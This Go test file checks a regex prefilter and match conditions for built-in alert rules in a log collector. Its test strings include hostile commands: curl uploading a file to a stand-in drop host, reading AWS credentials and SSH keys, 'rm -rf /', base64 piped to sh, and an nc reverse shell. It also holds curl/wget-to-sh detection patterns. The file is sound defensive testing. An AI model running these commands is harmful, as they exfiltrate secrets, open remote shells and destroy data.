package language

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/cowork-otel/collector/internal/alert"
)

func TestRequiredLiterals(t *testing.T) {
	for pattern, want := range map[string][]string{
		`curl`:                                  {"curl"},
		`(?i)CURL\s+-[TF]`:                      {"curl"},
		`\b(curl|wget)\b.*\|\s*sh`:              {"curl", "wget"},
		`a(bc)?(def)+`:                          {"def"},
		`(xy){2,}`:                              {"xy"},
		`(xy){0,2}`:                             nil,
		`curl|w`:                                nil,
		`^$`:                                    nil,
		`é+curl`:                                {"curl"},
		`[ab]+`:                                 nil,
		`(`:                                     nil,
		`aaa|` + strings.Repeat("b", 5) + `|cc`: {"aaa", "bbbbb", "cc"},
	} {
		require.Equal(t, want, requiredLiterals(pattern), pattern)
	}
	var many []string
	for i := range maxLiterals + 1 {
		many = append(many, string(rune('a'+i%26))+string(rune('a'+i/26))+"x.")
	}
	require.Nil(t, requiredLiterals(strings.Join(many, "|")), "a pattern with more literals than the bound")
}

// TestPrefilter checks that no text is left out that a pattern of a built-in rule matches,
// and that texts take turns.
func TestPrefilter(t *testing.T) {
	texts := []string{
		"", "a", "curl -T x https://drop.example.net", "CURL x | SH", "cat ~/.aws/credentials", "cat ~/.ſſh/id_rsa", "rm -rf /", "echo aGk= | base64 -d | sh",
		"crontab -l", "git push --force origin main", "\u212Aubectl get secret", "ls", "nc -e /bin/sh 10.0.0.1 4444", "/home/jane/.zshrc", "pip install x --index-url http://y",
	}
	p, matched, excluded := &prefilter{}, 0, 0
	for _, pattern := range builtinPatterns(t) {
		literals := requiredLiterals(pattern)
		if literals == nil {
			continue
		}
		re, indexes := regexp.MustCompile(pattern), p.addLiterals(literals)
		for _, text := range slices.Concat(texts, texts[:3]) {
			switch may := p.mayMatch(text, indexes); {
			case re.MatchString(text):
				matched++
				require.True(t, may, "%s: %s", pattern, text)
			case !may:
				excluded++
			}
		}
	}
	require.Greater(t, matched, 20)
	require.Greater(t, excluded, 1000)
}

// builtinPatterns returns the patterns of IsMatch in the built-in rules.
func builtinPatterns(t *testing.T) (patterns []string) {
	t.Helper()
	specs, err := alert.Builtin()
	require.NoError(t, err)
	for _, s := range specs {
		for _, e := range s.Expressions() {
			for i, token := range tokensOf(e.Text) {
				if token.kind == 's' && i > 0 {
					patterns = append(patterns, unquoted(token.text))
				}
			}
		}
	}
	return slices.DeleteFunc(patterns, func(text string) bool {
		_, err := regexp.Compile(text)
		return err != nil
	})
}

func unquoted(text string) string {
	return strings.NewReplacer(`\\`, `\`, `\"`, `"`).Replace(text[1 : len(text)-1])
}

// TestMatchOfRecord checks IsMatch as a condition: a match, none, no attribute, and a
// pattern that is no regular expression.
func TestMatchOfRecord(t *testing.T) {
	l, err := New()
	require.NoError(t, err)
	matches, err := l.For("rule").Condition(`IsMatch(attributes["a"], "(?i)curl|wget")`)
	require.NoError(t, err)
	ld := plog.NewLogs()
	records := ld.ResourceLogs().AppendEmpty().ScopeLogs().AppendEmpty().LogRecords()
	for _, text := range []string{"run CURL", "cp", "ſ wGet"} {
		records.AppendEmpty().Attributes().PutStr("a", text)
	}
	records.AppendEmpty()
	var got []bool
	for ev := range l.Events(ld) {
		got = append(got, matches(ev))
	}
	require.Equal(t, []bool{true, false, true, false}, got)
	_, err = l.For("rule").Condition(`IsMatch(attributes["a"], "(")`)
	require.Error(t, err)
}

// FuzzPrefilter checks that a text that a pattern matches is never left out.
func FuzzPrefilter(f *testing.F) {
	f.Add(`(?i)a(bc|de)+f?`, "xABCf")
	f.Add(`k|ſs`, "\u212A")
	f.Fuzz(func(t *testing.T, pattern, text string) {
		re, err := regexp.Compile(pattern)
		literals := requiredLiterals(pattern)
		if err != nil || literals == nil || !re.MatchString(text) {
			return
		}
		p := &prefilter{}
		require.True(t, p.mayMatch(text, p.addLiterals(literals)))
	})
}
